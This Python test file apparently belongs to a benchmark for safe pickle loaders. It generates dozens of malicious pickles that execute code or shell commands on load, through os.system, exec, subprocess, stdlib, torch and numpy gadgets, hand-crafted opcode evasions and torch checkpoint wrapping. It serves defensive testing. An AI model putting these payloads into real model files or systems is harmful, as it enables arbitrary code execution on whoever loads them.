"""Pickles that call something when they are loaded, by every well known way and disguise."""

from __future__ import annotations

import base64
import builtins
import code
import functools
import importlib
import io
import operator
import os
import pathlib
import pickle
import profile
import subprocess
import timeit
import zlib
from collections.abc import Callable

import numpy as np
import torch

from benchmarks.hostile import payload, valid
from benchmarks.hostile.case import REFUSED, STOPPED, Case
from benchmarks.hostile.payload import CODE, EXPRESSION, SHELL, Calls, called, pickled, short, system, text

FAMILY = "pickle"
SYSTEM = text(SHELL)


def calls() -> dict[str, bytes]:
    """Name -> a pickle, each with another function that does it."""
    found: dict[str, object] = {
        "exec": Calls(exec, CODE),
        "eval": Calls(eval, EXPRESSION),
        "compile and exec": Calls(exec, Calls(compile, CODE, "x", "exec")),
        "open": Calls(open, payload.path(), "w"),
        "FileIO": Calls(io.FileIO, payload.path(), "w"),
        "os.open": Calls(os.open, payload.path(), os.O_CREAT),
        "mkdir": Calls(os.mkdir, payload.path()),
        "pathlib": Calls(pathlib.Path.touch, Calls(pathlib.PosixPath, payload.path())),
        "popen": Calls(os.popen, SHELL),
        "subprocess.Popen": Calls(subprocess.Popen, ["sh", "-c", SHELL]),
        "subprocess.check_output": Calls(subprocess.check_output, ["sh", "-c", SHELL]),
        "subprocess.getoutput": Calls(subprocess.getoutput, SHELL),
        "timeit": Calls(timeit.timeit, CODE, "pass", timeit.default_timer, 1),
        "profile.run": Calls(profile.run, CODE, payload.path()),
        "interpreter": Calls(Calls(getattr, Calls(code.InteractiveInterpreter), "runsource"), CODE),
        "getattr chain": Calls(Calls(getattr, Calls(importlib.import_module, "os"), "system"), SHELL),
        "attrgetter": Calls(Calls(Calls(operator.attrgetter, "system"), Calls(__import__, "os")), SHELL),
        "methodcaller": Calls(Calls(operator.methodcaller, "system", SHELL), Calls(__import__, "os")),
        "map": Calls(list, Calls(builtins.map, os.system, [SHELL])),
        "filter": Calls(list, Calls(builtins.filter, os.system, [SHELL])),
        "functools.partial": Calls(Calls(functools.partial, os.system, SHELL)),
        "pickle in a pickle": Calls(pickle.loads, pickled()),
        "base64 in a pickle": Calls(pickle.loads, Calls(base64.b64decode, base64.b64encode(pickled()))),
        "zlib in a pickle": Calls(pickle.loads, Calls(zlib.decompress, zlib.compress(pickled()))),
        "torch.load in a pickle": Calls(
            functools.partial(torch.load, weights_only=False), Calls(io.BytesIO, valid.checkpoint(system()))
        ),
        "numpy in a pickle": Calls(
            functools.partial(np.load, allow_pickle=True), Calls(io.BytesIO, _array())
        ),
        "bytes.decode": Calls(exec, Calls(bytes.decode, CODE.encode())),
        "a thread": Calls(
            exec, f"import threading\nt = threading.Thread(target=lambda: {EXPRESSION})\nt.start()\nt.join()"
        ),
        "a child": Calls(exec, f"import os\nif not os.fork():\n {EXPRESSION}; os._exit(0)\nos.wait()"),
    }
    found_bytes = {name: pickled(value) for name, value in found.items()}
    by_name = {
        "runpy": called("runpy", "_run_code", _compiled(), b"}"),
        "torch.fx": called("torch.fx.graph_module", "_exec_with_source", text(CODE), b"}"),
        "numpy's testing": called("numpy.testing._private.utils", "runstring", text(CODE), b"}"),
        "numpy.f2py": called("numpy.f2py.crackfortran", "myeval", text(EXPRESSION)),
        "torch's collect_env": called("torch.utils.collect_env", "run", text(SHELL)),
        "torch's inductor": called("torch._inductor.codecache", "os.system", SYSTEM, start=b"\x80\x04"),
        "bdb": called("bdb", "Bdb.run", b"cbdb\nBdb\n)R", text(CODE), start=b"\x80\x04"),
        "cProfile": called("cProfile", "run", text(CODE), text("/dev/null")),
        "doctest": called("doctest", "debug_script", text(CODE)),
        "idlelib": called(
            "idlelib.pyshell", "ModifiedInterpreter.runcode", b"N", text(CODE), start=b"\x80\x04"
        ),
        "pty": called("pty", "spawn", b"]" + text("sh") + b"a" + text("-c") + b"a" + SYSTEM + b"a"),
        "posix": called("posix", "system", SYSTEM),
        "nt": called("nt", "system", SYSTEM),
        "Python 2": called("__builtin__", "eval", text(EXPRESSION)),
        "commands": called("commands", "getoutput", SYSTEM),
        "webbrowser": called("webbrowser", "open", text("file:///nowhere")),
        "ssl": called("ssl", "get_server_certificate", b"(" + text("127.0.0.1") + b"K\x09t"),
        "ctypes": called("ctypes", "CDLL", b"N"),
        "site": called("site", "execsitecustomize"),
        "pip": called("pip._internal.cli.main", "main", b"]" + text("--version") + b"a"),
        "cloudpickle": called("cloudpickle.cloudpickle", "subimport", text("os")),
        "dill": called("dill._dill", "_import_module", text("os")),
        "a module that is not there": called("evil_module", "run", SYSTEM),
        "a module of the working folder": called("payload_of_a_file", "run"),
    }
    return {**found_bytes, **by_name}


def _compiled() -> bytes:
    return b"cbuiltins\ncompile\n(" + text(CODE) + text("x") + text("exec") + b"tR"


def _array() -> bytes:
    content, objects = io.BytesIO(), np.empty(1, dtype=object)
    objects[0] = system()
    np.save(content, objects, allow_pickle=True)
    return content.getvalue()


def opcodes() -> dict[str, bytes]:
    """Name -> a pickle with the same call, told in another way."""
    argument = short(SHELL)
    reduce_ = argument + b"\x85R."
    return {
        "GLOBAL and REDUCE": called("os", "system", SYSTEM),
        "INST": b"(" + SYSTEM + b"ios\nsystem\n.",
        "OBJ": b"(cos\nsystem\n" + SYSTEM + b"o.",
        "NEWOBJ": b"\x80\x02cbuiltins\ntuple\ncbuiltins\nmap\ncos\nsystem\n("
        + SYSTEM
        + b"l\x86\x81\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04cbuiltins\ntuple\ncbuiltins\nmap\ncos\nsystem\n("
        + SYSTEM
        + b"l\x86\x81\x85}\x92.",
        "BUILD of a slot": b"\x80\x02ctypes\nSimpleNamespace\n)\x81}"
        + text("a")
        + b"cos\nsystem\n"
        + SYSTEM
        + b"\x85Rsb.",
        "STACK_GLOBAL": b"\x80\x04" + short("os") + short("system") + b"\x93" + reduce_,
        "STACK_GLOBAL by memo": b"\x80\x04"
        + short("system")
        + b"\x940"
        + short("os")
        + b"\x940h\x01h\x00\x93"
        + reduce_,
        "STACK_GLOBAL by PUT and DUP": b"\x80\x04"
        + short("os")
        + b"2p7\n0g7\n"
        + short("system")
        + b"\x93"
        + reduce_,
        "STACK_GLOBAL by LONG_BINPUT": b"\x80\x04"
        + short("os")
        + b"r\xff\xff\x00\x000j\xff\xff\x00\x00"
        + short("system")
        + b"\x93"
        + reduce_,
        "STACK_GLOBAL of a computed name": b"\x80\x04"
        + short("os")
        + short("builtins")
        + short("str.lower")
        + b"\x93"
        + short("SYSTEM")
        + b"\x85R\x93"
        + reduce_,
        "STACK_GLOBAL of a sliced name": b"\x80\x04"
        + short("os")
        + short("builtins")
        + short("str.strip")
        + b"\x93"
        + short("  system ")
        + b"\x85R\x93"
        + reduce_,
        "a dotted name": b"\x80\x04" + short("pathlib") + short("os.system") + b"\x93" + reduce_,
        "a dotted name of torch": b"\x80\x04" + short("torch") + short("os.system") + b"\x93" + reduce_,
        "a dotted name in GLOBAL": b"\x80\x04cshutil\nos.system\n" + reduce_,
        "POP hides the result": b"\x80\x02cos\nsystem\n" + SYSTEM + b"\x85R0}.",
        "POP_MARK hides the result": b"\x80\x02(cos\nsystem\n" + SYSTEM + b"\x85R1}.",
        "as a key": b"\x80\x02}cos\nsystem\n" + SYSTEM + b"\x85RNs.",
        "among weights": b"\x80\x02}" + text("w") + b"cos\nsystem\n" + SYSTEM + b"\x85Rs.",
        "as a persistent id": b"\x80\x02cos\nsystem\n" + SYSTEM + b"\x85RQ.",
        "EXT of nobody": b"\x80\x02\x82\xf0" + SYSTEM + b"\x85R.",
        "EXT after it is registered": b"\x80\x02ccopyreg\nadd_extension\n("
        + text("os")
        + text("system")
        + b"K\xf0tR0\x82\xf0"
        + SYSTEM
        + b"\x85R.",
        "copyreg's constructor": b"\x80\x02ccopyreg\n__newobj__\n(cbuiltins\ntuple\ncbuiltins\nmap\n"
        + b"cos\nsystem\n("
        + SYSTEM
        + b"l\x86\x81tR.",
        "frames": b"\x80\x04\x95"
        + (len(reduce_) + 13).to_bytes(8, "little")
        + short("os")
        + short("system")
        + b"\x93"
        + reduce_,
        "a frame that lies": b"\x80\x04\x95"
        + b"\xff" * 8
        + short("os")
        + short("system")
        + b"\x93"
        + reduce_,
        "no PROTO": b"cos\nsystem\n" + SYSTEM + b"\x85R.",
        "PROTO twice": b"\x80\x02\x80\x04cos\nsystem\n" + SYSTEM + b"\x85R.",
        "protocol 0 in ASCII": b"cos\nsystem\n(V" + SHELL.encode() + b"\ntR.",
        "STRING": b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR.",
        "broken after it ran": called("os", "system", SYSTEM)[:-1] + b"\xff\xff.",
        "no STOP": called("os", "system", SYSTEM)[:-1],
        "STOP in the middle": called("os", "system", SYSTEM) + b"\x00" * 50,
        "a missing memo after it ran": called("os", "system", SYSTEM)[:-1] + b"h\x77.",
        "a stack that is empty after it ran": called("os", "system", SYSTEM)[:-1] + b"00000.",
        "a module that is not there after it ran": called("os", "system", SYSTEM)[:-1] + b"cnowhere\nx\n.",
        "text that is none after it ran": called("os", "system", SYSTEM)[:-1] + b"X\x02\x00\x00\x00\xff\xff.",
        "a line too long before it": b"\x80\x02V" + b"x" * 70_000 + b"\n0cos\nsystem\n" + SYSTEM + b"\x85R.",
        "a thousand memos before it": b"\x80\x02"
        + b"".join(b"K\x01q%c0" % (n % 256) for n in range(1000))
        + b"cos\nsystem\n"
        + SYSTEM
        + b"\x85R.",
        "an honest one before it": pickle.dumps({"w": [1.0]}, 2) + called("os", "system", SYSTEM),
        "nothing before it": b"\x80\x02N." + called("os", "system", SYSTEM),
        "a name with spaces": b"\x80\x02cos \nsystem\n" + SYSTEM + b"\x85R.",
        "a name beyond ASCII": "\x80\x02cos\nsyst\u00e9m\n".encode("latin-1") + SYSTEM + b"\x85R.",
        "a recursive list": b"\x80\x02]q\x00h\x00acos\nsystem\n" + SYSTEM + b"\x85Ra.",
        "ten thousand deep": b"\x80\x02"
        + b"(" * 10_000
        + b"cos\nsystem\n"
        + SYSTEM
        + b"\x85R"
        + b"t" * 10_000
        + b".",
        "a bomb of doublings": b"\x80\x02"
        + text("x" * 100)
        + b"".join(b"]q\x01(h\x01h\x01e0" for _ in range(30))
        + b".",
        "four gigabytes of text": b"\x80\x04\x8d" + (4 << 30).to_bytes(8, "little") + b"abc.",
        "a number of a gigabyte": b"\x80\x02\x8b\xff\xff\xff\x3f\x01.",
    }


# Without a call that can be made here: names that do not exist, and sizes that are only claimed.
INERT = ("nt", "commands", "a module that is not there", "webbrowser", "ssl", "ctypes", "site", "pip")


def protocols() -> dict[str, bytes]:
    return {f"os.system, protocol {protocol}": pickled(protocol=protocol) for protocol in range(6)}


def in_checkpoint(data: bytes) -> bytes:
    """A zip as torch writes it, around a pickle."""
    return valid.packed({"archive/data.pkl": data, "archive/byteorder": b"little", "archive/version": b"3\n"})


CONTAINERS: dict[str, tuple[str, str, Callable[[bytes], bytes]]] = {
    "alone": (".pkl", "pickle_load", lambda data: data),
    "in a checkpoint": (".pt", "torch_load", in_checkpoint),
}


def cases() -> list[Case]:
    found: list[Case] = []
    for where, (suffix, loader, wrap) in CONTAINERS.items():
        for name, data in {**protocols(), **calls(), **opcodes()}.items():
            # Damage that comes before the call is seen may be named instead of it.
            expected = STOPPED if name in opcodes() else REFUSED
            found.append(Case(FAMILY, f"{name}, {where}", wrap(data), expected, suffix, loader))
    return found
